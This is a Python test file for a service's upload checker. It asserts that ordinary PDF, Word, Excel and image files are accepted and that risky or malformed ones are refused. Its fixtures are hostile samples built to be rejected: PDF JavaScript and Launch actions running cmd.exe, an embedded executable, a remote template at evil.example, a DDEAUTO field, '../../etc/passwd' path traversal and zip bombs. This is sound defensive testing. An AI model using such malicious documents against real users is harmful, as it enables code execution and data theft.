"""What may be sent to us is kept; anything else is refused with what to do about it."""

import hashlib
import io
import struct
import zipfile
import zlib
from datetime import date

import pikepdf
import pytest
from PIL import Image

from services.documents.making import KeylineDocuments
from services.domain.documents import DocumentKind, Paper
from services.domain.errors import AnswerRefused
from services.storage.checking import LARGEST, check

PAPER = Paper(
    kind=DocumentKind.ACTION_PLAN,
    reference="NBL-2026-014",
    partnership="Northshire",
    prepared_on=date(2026, 7, 17),
    version=1,
)
OUR_PDF = KeylineDocuments().pdf(PAPER).content
OUR_WORD = KeylineDocuments().word(PAPER).content
TYPES = b"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"


def a_zip(parts: dict[str, bytes], level: int = 9) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return packed.getvalue()


def a_workbook(**more: bytes) -> bytes:
    return a_zip({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<workbook/>"} | more)


def a_document(more: dict[str, bytes]) -> bytes:
    return a_zip({"[Content_Types].xml": TYPES, "word/document.xml": b"<document/>"} | more)


def a_png(width: int = 1, height: int = 1) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        check_sum = struct.pack(">I", zlib.crc32(name + data))
        return struct.pack(">I", len(data)) + name + data + check_sum

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


def a_jpg(width: int = 1, height: int = 1) -> bytes:
    """Return a JPG of one pixel whose head says that it has so many."""
    written = io.BytesIO()
    Image.new("L", (1, 1)).save(written, "JPEG")
    content = written.getvalue()
    place = content.index(b"\xff\xc0") + 5
    return content[:place] + struct.pack(">HH", height, width) + content[place + 4 :]


def a_pdf(**root: object) -> bytes:
    written = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        for name, value in root.items():
            pdf.Root[f"/{name}"] = pdf.make_indirect(value)
        pdf.save(written)
    return written.getvalue()


def a_locked_pdf(user: str) -> bytes:
    written = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(written, encryption=pikepdf.Encryption(owner="owner", user=user))
    return written.getvalue()


def a_pdf_with_a_file_in_it() -> bytes:
    written = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.attachments["x.exe"] = b"MZ"
        pdf.save(written)
    return written.getvalue()


def a_pdf_with_script_on_its_page() -> bytes:
    written = io.BytesIO()
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page()
        act = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        page.obj.Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=act)]
        )
        pdf.save(written)
    return written.getvalue()


def script() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


LAUNCH = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
FORM = pikepdf.Dictionary(XFA="x", Fields=pikepdf.Array())
MACROS = b"<Types><Override ContentType='application/vnd.ms-word.macroEnabled'/></Types>"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("plan.pdf", OUR_PDF, "application/pdf"),
        ("PLAN.PDF", a_pdf(), "application/pdf"),
        ("plan.docx", OUR_WORD, WORD),
        ("a.xlsx", a_workbook(), EXCEL),
        ("a.png", a_png(), "image/png"),
        ("a.jpg", a_jpg(), "image/jpeg"),
        ("a.JPEG", a_jpg(), "image/jpeg"),
    ],
)
def test_a_file_of_an_allowed_type_is_kept_with_its_digest(name, content, media_type):
    checked = check(name, content)
    assert (checked.media_type, checked.size) == (media_type, len(content))
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.filename == name


@pytest.mark.parametrize(
    ("name", "content", "told"),
    [
        ("a.pdf", b"", "empty"),
        ("a.pdf", b"%PDF-1.7\n" + b"x" * LARGEST, "25 MB or smaller"),
        ("a.exe", b"MZ" + bytes(200), "Choose a PDF"),
        ("a.html", b"<html><script>", "Choose a PDF"),
        ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "Choose a PDF"),
        ("a.txt", b"just text", "Choose a PDF"),
        ("a.zip", a_zip({"a.txt": b"x"}), "Choose a PDF"),
        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "password"),
        ("a.docx", OUR_PDF, "does not match"),
        ("a.pdf", OUR_WORD, "does not match"),
        ("a.docm", OUR_WORD, "does not match"),
        ("a.pdf.exe", OUR_PDF, "does not match"),
        ("a.pdf", b"x" * 900 + OUR_PDF, "Choose a PDF"),
        ("noextension", OUR_PDF, "ends in .pdf"),
        ("a.pdf", OUR_PDF[:-400], "damaged"),
        ("a.pdf", b"%PDF-1.7\nnonsense\n%%EOF", "damaged"),
        ("a.pdf", a_locked_pdf("secret"), "password"),
        ("a.pdf", a_locked_pdf(""), "password"),
        ("a.pdf", a_pdf(OpenAction=script()), "scripts"),
        ("a.pdf", a_pdf(OpenAction=LAUNCH), "scripts"),
        ("a.pdf", a_pdf(AA=pikepdf.Dictionary(WC=script())), "scripts"),
        ("a.pdf", a_pdf_with_script_on_its_page(), "scripts"),
        ("a.pdf", a_pdf(AcroForm=FORM), "XFA"),
        ("a.pdf", a_pdf_with_a_file_in_it(), "other files inside"),
        ("a.png", a_png(50_000, 50_000), "40 megapixels"),
        ("a.png", a_png(0, 4), "damaged"),
        ("a.png", a_png()[:-10], "damaged"),
        ("a.jpg", a_jpg(50_000, 50_000), "40 megapixels"),
        ("a.jpg", a_jpg()[:-2], "damaged"),
        ("a.jpg", b"\xff\xd8\xff\xe0" + bytes(20), "damaged"),
    ],
)
def test_a_file_that_may_not_be_kept_is_refused_with_what_to_do(name, content, told):
    with pytest.raises(AnswerRefused, match=told) as refused:
        check(name, content, field="evidence")
    assert refused.value.field == "evidence"
    assert str(refused.value).endswith(".")


RELS = "word/_rels/document.xml.rels"
OUTSIDE = (
    b"<Relationships><Relationship Type='http://x/%s' Target='%s' TargetMode='External'/>"
    b"</Relationships>"
)


@pytest.mark.parametrize(
    ("parts", "told"),
    [
        ({"word/vbaProject.bin": b"x"}, "macros"),
        ({"word/activeX/activeX1.xml": b"<x/>"}, "macros"),
        ({"[Content_Types].xml": MACROS}, "macros"),
        ({"word/embeddings/oleObject1.bin": b"x"}, "other files inside"),
        ({RELS: OUTSIDE % (b"attachedTemplate", b"http://evil.example/t.dotm")}, "linked"),
        ({RELS: OUTSIDE % (b"oleObject", b"file:///c:/x")}, "other files inside"),
        ({"word/document.xml": b"<instrText>DDEAUTO c:\\cmd.exe</instrText>"}, "linked"),
        ({"word/document.xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"}, "damaged"),
        ({"word/document.xml": b"\xff\xfe<\x00x\x00"}, "damaged"),
        ({"word/media/big.bin": bytes(30_000_000)}, "unpacks to far more"),
        ({f"word/{number}.txt": b"" for number in range(2_001)}, "unpacks to far more"),
        ({"../../etc/passwd": b"x"}, "damaged"),
        ({"WORD/document.xml": b"x"}, "damaged"),
    ],
)
def test_a_word_file_with_something_hidden_in_it_is_refused(parts, told):
    with pytest.raises(AnswerRefused, match=told):
        check("a.docx", a_document(parts))


def test_a_link_that_a_reader_may_follow_is_no_reason_to_refuse():
    content = a_document({RELS: OUTSIDE % (b"hyperlink", b"https://www.gov.uk")})
    assert check("a.docx", content).extension == "docx"


def test_a_workbook_that_reads_other_files_is_refused():
    with pytest.raises(AnswerRefused, match="linked"):
        check("a.xlsx", a_workbook(**{"xl/externalLinks/externalLink1.xml": b"<x/>"}))
    with pytest.raises(AnswerRefused, match="macros"):
        check("a.xlsx", a_workbook(**{"xl/macrosheets/sheet1.xml": b"<x/>"}))


def test_a_zip_whose_directory_lies_about_sizes_is_refused():
    honest = a_document({"word/a.xml": b"<x/>" * 100})
    place = honest.rindex(b"word/a.xml") - 46
    lying = honest[: place + 24] + struct.pack("<I", 5) + honest[place + 28 :]
    with pytest.raises(AnswerRefused, match="damaged"):
        check("a.docx", lying)
